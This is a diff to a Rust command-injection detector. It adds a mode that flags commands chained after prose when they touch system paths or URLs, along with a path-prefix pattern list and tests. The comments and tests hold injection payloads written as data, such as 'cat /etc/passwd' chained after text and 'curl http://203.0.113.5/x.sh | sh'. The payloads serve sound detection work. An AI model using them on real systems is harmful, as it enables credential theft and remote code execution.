@@ -183,7 +183,11 @@ pub fn jquery_call(value: &[u8], hit: Range<usize>) -> Option<String> {
 /// separator after at most one word (`127.0.0.1; cat /etc/passwd`, `x|id`, `a$(id)`). A separator after
 /// several words is punctuation of text or of a document (a post that quotes a pipeline), where no argument
 /// ends.
-pub fn injection(value: &[u8]) -> Option<String> {
+///
+/// In a `line_of_text` (prose the application passes on whole), the words before a separator are the argument's own
+/// (`ping a b; id` runs `id` as surely as `ping a; id`): there a command chained anywhere counts when its arguments
+/// reach the system ([`reaches_the_system`]).
+pub fn injection(value: &[u8], line_of_text: bool) -> Option<String> {
     let value = without_data_uri_headers(&value[..value.len().min(MAX_LEXED)]);
     let value = value.as_ref();
     let segments = segments(value);
@@ -201,9 +205,42 @@ pub fn injection(value: &[u8]) -> Option<String> {
             )
         })
     };
-    found(first).or_else(|| match first.words.len() {
-        0 | 1 => candidates.next().and_then(found),
-        _ => None,
+    found(first)
+        .or_else(|| match first.words.len() {
+            0 | 1 => candidates.next().and_then(found),
+            _ => None,
+        })
+        .or_else(|| {
+            if !line_of_text || value.contains(&b'\n') {
+                return None;
+            }
+            segments[1..]
+                .iter()
+                .filter(|segment| matches!(segment.position, SEPARATOR | PIPE | SUBSTITUTION))
+                .find_map(|segment| {
+                    // A known command only: text quotes configuration lines too (`ssl_certificate /etc/...;`).
+                    let command = command_line(segment, true)
+                        .filter(|command| command_name(command.as_bytes()).is_some())?;
+                    reaches_the_system(segment).then(|| {
+                        format!(
+                            "command `{command}` on a system path or URL, chained after text ({})",
+                            segment.position
+                        )
+                    })
+                })
+        })
+}
+
+/// Whether a command line's arguments name what an attack reaches for: an absolute path of the system
+/// (`/etc/passwd`, `/bin/sh`, `/tmp/x`) or a URL to fetch. Commands that posts quote work on the project's
+/// files (`rm -rf build`, `npm run test`); an injection reads the system's or fetches its payload.
+fn reaches_the_system(segment: &Segment) -> bool {
+    segment.words.iter().skip(1).any(|word| {
+        [
+            "/etc/", "/bin/", "/usr/", "/tmp/", "/dev/", "/proc/", "/var/", "http://", "https://",
+        ]
+        .iter()
+        .any(|prefix| word.starts_with(prefix.as_bytes()))
     })
 }
 
@@ -244,6 +281,11 @@ fn without_data_uri_headers(value: &[u8]) -> Cow<'_, [u8]> {
     owned.map_or(Cow::Borrowed(value), Cow::Owned)
 }
 
+/// What puts a segment in command position: a separator, a pipe or `&`, a `$(...)` substitution.
+const SEPARATOR: &str = "after a command separator";
+const PIPE: &str = "after a pipe or `&`";
+const SUBSTITUTION: &str = "inside `$(...)`";
+
 /// Splits `value` into segments at separators and substitutions, each segment's words with the quoting removed.
 fn segments(value: &[u8]) -> Vec<Segment> {
     let mut segments = Vec::new();
@@ -267,13 +309,10 @@ fn segments(value: &[u8]) -> Vec<Segment> {
     while i < value.len() {
         let b = value[i];
         let separator = match b {
-            b';' | b'\n' | b'\r' => Some(("after a command separator", 1)),
-            b'|' | b'&' => Some((
-                "after a pipe or `&`",
-                if value.get(i + 1) == Some(&b) { 2 } else { 1 },
-            )),
+            b';' | b'\n' | b'\r' => Some((SEPARATOR, 1)),
+            b'|' | b'&' => Some((PIPE, if value.get(i + 1) == Some(&b) { 2 } else { 1 })),
             b'`' => Some(("inside backquotes", 1)),
-            b'$' if value.get(i + 1) == Some(&b'(') => Some(("inside `$(...)`", 2)),
+            b'$' if value.get(i + 1) == Some(&b'(') => Some((SUBSTITUTION, 2)),
             b'<' | b'>' if value.get(i + 1) == Some(&b'(') => {
                 Some(("inside a process substitution", 2))
             }
@@ -485,7 +524,7 @@ mod tests {
     use super::*;
 
     fn found(value: &str) -> Option<String> {
-        injection(value.as_bytes())
+        injection(value.as_bytes(), false)
     }
 
     #[test]
@@ -530,6 +569,20 @@ mod tests {
         assert!(found("\\ls").is_some());
         assert!(found("for %G in (Sun Mon) do echo %G").is_some());
         assert!(found("IF NOT EXIST temp.txt ECHO not found").is_some());
+    }
+
+    #[test]
+    fn a_line_of_text_chains_commands_that_reach_the_system() {
+        let in_text = |value: &str| injection(value.as_bytes(), true);
+        assert!(in_text("I liked it a lot, thanks. ; cat /etc/passwd").is_some());
+        assert!(in_text("nice shop | curl http://203.0.113.5/x.sh | sh").is_some());
+        assert!(found("I liked it a lot, thanks. ; cat /etc/passwd").is_none());
+        assert!(in_text("Great post; rm -rf build worked for me").is_none());
+        assert!(in_text("Tom & Jerry; cat lovers will like it").is_none());
+        assert!(
+            in_text("then add ssl_certificate /etc/letsencrypt/live/x/fullchain.pem; and reload")
+                .is_none()
+        );
     }
 
     #[test]
